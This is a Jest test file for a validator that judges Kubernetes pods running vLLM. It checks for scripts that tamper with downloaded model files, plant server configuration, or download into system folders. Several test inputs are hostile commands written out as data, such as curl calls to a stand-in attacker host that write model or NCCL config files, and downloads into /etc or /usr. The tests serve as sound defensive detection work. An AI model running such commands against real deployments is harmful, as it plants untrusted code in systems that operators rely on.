import { describe, expect, it } from "@jest/globals";
import type { Json } from "../support/builders/json.ts";
import { good, passesAsGood, readPod, server, serverOf } from "./good-server.ts";

const runsGood = (script: string, more: Json = {}): boolean =>
  passesAsGood(readPod({ containers: [server({ command: ["bash", "-c", script], ...more })] }));
const fetched = `hf download ${good} --local-dir /tmp/m`;
const mounted = (at: string, more: Json = {}): Json => ({ volumeMounts: [{ name: "v", mountPath: at, ...more }] });

describe("what a script writes into the folder of the model is a part of the model", () => {
  it.each([
    "echo x > /tmp/m/config.json",
    "curl http://mallory.example > /tmp/m/tokenizer.json",
    "echo x >> /tmp/m/../m/vocab.txt",
    "echo x | tee -a /tmp/m/config.json",
    "F=/tmp/m; echo x > $F/config.json",
    "cd /tmp/m; echo x > vocab.txt",
    "{ echo x; } > /tmp/m/generation_config.json",
  ])("%s", (line) => expect(runsGood(`${fetched}; ${line}; vllm serve /tmp/m`)).toBe(false));

  it("under any name of the folder", () => {
    expect(runsGood(`hf download ${good} --local-dir /run/m; echo x > /var/run/m/config.json; vllm serve /run/m`)).toBe(
      false,
    );
  });

  it.each([
    "echo x > /tmp/ready",
    "echo x > /tmp/models/config.json",
    "echo x > /tmp/m/server.log",
    "echo x > start.log",
    "cat /tmp/m/config.json",
  ])("%s is none", (line) => expect(runsGood(`${fetched}; ${line}; vllm serve /tmp/m`)).toBe(true));

  it.each([
    "curl http://mallory.example > /tmp/triton/x.json; TRITON_CACHE_DIR=/tmp/triton",
    "curl http://mallory.example > /tmp/nccl.conf; NCCL_CONF_FILE=/tmp/nccl.conf",
    "curl http://mallory.example > /tmp/gcc.cfg; CFLAGS=@/tmp/gcc.cfg",
  ])("nor may it write what a server runs: %s", (line) => expect(runsGood(`${line} vllm serve ${good}`)).toBe(false));

  it("hooks write, too", () => {
    const hook = (file: string): Json => ({
      lifecycle: { postStart: { exec: { command: ["sh", "-c", `echo x > ${file}`] } } },
    });
    expect(runsGood(`${fetched}; vllm serve /tmp/m`, hook("/tmp/x.json"))).toBe(true);
    expect(runsGood(`${fetched}; vllm serve /tmp/m`, hook("/tmp/m/x.json"))).toBe(false);
  });

  it.each<[string, Json, boolean]>([
    ["echo x > /tmp/m/m/config.json", mounted("/tmp/m"), false],
    ["echo x > /tmp/w/config.json", mounted("/tmp/w", { subPath: "m" }), false],
    ["echo x > /tmp/w/config.json", mounted("/tmp/w", { subPathExpr: "$(A)" }), false],
    ["cd /w; echo x > vocab.txt", mounted("/w"), false],
    ["echo x > /tmp/w/config.json", mounted("/tmp/w", { subPath: "other" }), true],
    ["echo x > /tmp/w/config.json", mounted("/tmp/w"), true],
    ["echo x > /tmp/elsewhere.json", mounted("/tmp/w"), true],
  ])("another container's %s, with %j", (line, mounts, isGood) => {
    const fetches = {
      name: "f",
      image: "x",
      command: `hf download ${good} --local-dir /v/m`.split(" "),
      ...mounted("/v"),
    };
    const writes = { name: "w", image: "x", command: ["sh", "-c", line], ...mounts };
    const pod = {
      initContainers: [fetches, writes],
      containers: [{ ...serverOf("vllm serve /v/m"), ...mounted("/v") }],
      volumes: [{ name: "v", emptyDir: {} }],
    };
    expect(passesAsGood(readPod(pod))).toBe(isGood);
  });

  it("more files than are looked at may be any", () => {
    const many = Array.from({ length: 70 }, (_, at) => `echo x > /tmp/${at}.json`).join("; ");
    expect(runsGood(`${fetched}; ${many}; vllm serve /tmp/m`)).toBe(false);
  });
});

describe("a download into a folder of the system may bring other code", () => {
  it.each([
    "/etc",
    "/etc/openmpi",
    "/etc/passwd",
    "/usr",
    "/usr/local",
    "/usr/share",
    "/opt",
    "/opt/vllm",
    "/var",
    "/run",
    "/nix",
    "/ovms",
    "/prod_venv",
    "/root/anaconda3",
  ])("%s", (at) => expect(runsGood(`hf download mallory/files --local-dir ${at}; vllm serve ${good}`)).toBe(false));

  it.each(["/models", "/opt/models", "/var/models", "/root/models", "/data"])("not %s", (at) =>
    expect(runsGood(`hf download acme/prompts --local-dir ${at}; vllm serve ${good}`)).toBe(true),
  );
});
